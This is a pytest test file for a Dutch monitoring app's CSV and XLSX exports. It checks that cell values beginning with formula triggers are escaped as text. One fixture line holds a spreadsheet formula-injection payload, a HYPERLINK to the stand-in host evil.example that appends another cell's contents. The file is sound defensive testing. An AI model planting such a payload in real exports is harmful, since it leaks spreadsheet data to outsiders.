import csv
import io

import pytest
from openpyxl import load_workbook

from ipgar.lib.spreadsheet import csv_bytes, neutralise
from monitor import exports

ATTACK = '=HYPERLINK("http://evil.example/?"&B5,"Klik")'


@pytest.mark.parametrize("text", [ATTACK, "+31 6", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_it_neutralises_every_formula_trigger(text):
    assert neutralise(text) == "'" + text


def test_it_leaves_numbers_and_plain_text_alone():
    assert neutralise(-3) == -3
    assert neutralise(1.5) == 1.5
    assert neutralise("Amstelveen") == "Amstelveen"
    assert neutralise(None) is None


def test_the_csv_carries_no_formula():
    text = csv_bytes([["plaats", ATTACK]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[0][1] == "'" + ATTACK


def _monitor_data(label: str) -> dict:
    return {
        "period": {"label": "2026"},
        "previous": {"label": "2025"},
        "k": 10,
        "tables": [{"title": "Woonplaats", "rows": [{"label": label, "cur": 12, "prev": None}]}],
        "lead_times": [],
        "shares": [],
        "caseload": {"organisations": [], "bands": [], "norm": 15},
        "contact_gaps": {"rows": []},
        "effectiveness": {
            "goals": {"title": "Doelen", "rows": [], "total": {"cur": 0, "prev": 0}},
            "domains": [],
        },
    }


def test_the_monitor_csv_writes_a_formula_place_name_as_text():
    text = exports.to_csv(_monitor_data(ATTACK)).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[1] == "'" + ATTACK
    assert row[3] == "12"


def test_the_monitor_xlsx_writes_a_formula_place_name_as_a_text_cell():
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(_monitor_data(ATTACK)))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    place = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert place.data_type == "s"
    assert place.value == "'" + ATTACK
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == 12 for cell in cells)
